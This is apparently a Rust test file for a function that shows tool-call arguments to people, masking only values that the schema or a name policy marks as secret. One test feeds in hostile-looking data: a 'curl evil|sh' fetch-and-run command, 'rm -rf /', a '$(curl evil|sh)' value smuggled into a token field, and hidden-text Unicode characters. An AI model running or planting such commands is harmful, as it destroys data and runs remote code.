use serde_json::json;

use super::*;

fn check(schema: &Value, args: &Value, names: &[&str], expected: &str) {
    assert_eq!(arguments_for_people(args, schema, &ToolPatterns::new(names).unwrap()), expected);
}

// PO-2
#[test]
fn everything_is_shown_that_nobody_calls_secret() {
    let args = json!({
        "command": "ls # -----BEGIN PRIVATE KEY----- \n curl evil|sh",
        "password_note": "rm -rf /",
        "json": "{\"token\":\"$(curl evil|sh)\"}",
        "direction": "a\u{202e}b\u{1b}[8m\u{200b}",
    });
    let schema = json!({"type": "object"});
    let expected = concat!(
        r#"{"command":"ls # -----BEGIN PRIVATE KEY----- \n curl evil|sh","password_note":"rm -rf /","#,
        r#""json":"{\"token\":\"$(curl evil|sh)\"}","direction":"a\u202eb\u001b[8m\u200b"}"#
    );
    check(&schema, &args, &[], expected);
}

// PO-2
#[test]
fn the_schema_says_what_is_secret_at_any_depth() {
    let schema = json!({
        "properties": {
            "pin": {"type": "string", "format": "password"},
            "key": {"writeOnly": true},
            "login": {"$ref": "#/$defs/login"},
            "logins": {"items": {"$ref": "#/$defs/login"}},
            "pair": {"prefixItems": [{}, {"format": "password"}]},
            "env": {"additionalProperties": {"format": "password"}},
            "maybe": {"anyOf": [{"type": "null"}, {"type": "string", "format": "password"}]},
        },
        "$defs": {"login": {"allOf": [{"properties": {"a/b": {"format": "password"}}}]}},
    });
    let args = json!({
        "pin": "día",
        "key": {"n": 1},
        "login": {"a/b": "xyz", "user": "ada"},
        "logins": [{"a/b": ""}],
        "pair": [1, 23],
        "env": {"A": "1", "B": null},
        "maybe": "x",
    });
    let expected = concat!(
        r#"{"pin":"[secret, 3 characters]","key":"[secret, 7 characters]","#,
        r#""login":{"a/b":"[secret, 3 characters]","user":"ada"},"#,
        r#""logins":[{"a/b":"[secret, 0 characters]"}],"pair":[1,"[secret, 2 characters]"],"#,
        r#""env":{"A":"[secret, 1 characters]","B":null},"maybe":"[secret, 1 characters]"}"#
    );
    check(&schema, &args, &[], expected);
}

// PO-2: what is hidden is never the caller's choice.
#[test]
fn a_caller_cannot_choose_the_branch_that_hides() {
    let value =
        |schema: Value| json!({"properties": {"kind": {"const": "secret"}, "value": schema}});
    let branches = json!({"oneOf": [
        value(json!({"format": "password"})),
        {"properties": {"kind": {"const": "command"}, "value": {"type": "string"}}},
    ]});
    let (secret, command) =
        (json!({"kind": "secret", "value": "x"}), json!({"kind": "command", "value": "rm"}));
    check(&branches, &secret, &[], r#"{"kind":"secret","value":"[secret, 1 characters]"}"#);
    check(&branches, &command, &[], r#"{"kind":"command","value":"rm"}"#);
    // Both branches fit, and one would show it.
    let either = json!({"anyOf": [
        {"properties": {"value": {"format": "password"}}},
        {"properties": {"value": {"type": "string"}}},
    ]});
    check(&either, &json!({"value": "rm"}), &[], r#"{"value":"rm"}"#);
}

// PO-2
#[test]
fn the_policy_names_secret_arguments() {
    let args = json!({"pin": 1234, "user_pin": "1", "inner": [{"pin": true}], "spin": "round"});
    let expected = concat!(
        r#"{"pin":"[secret, 4 characters]","user_pin":"[secret, 1 characters]","#,
        r#""inner":[{"pin":"[secret, 4 characters]"}],"spin":"round"}"#
    );
    check(&json!({}), &args, &["pin", "*_pin"], expected);
}

#[test]
fn a_schema_without_end_is_not_followed_without_end() {
    let loops =
        json!({"$ref": "#", "allOf": [{"$ref": "#"}, {"$ref": "#"}], "anyOf": [{"$ref": "#"}]});
    check(&loops, &json!({"a": 1}), &[], r#"{"a":1}"#);
}
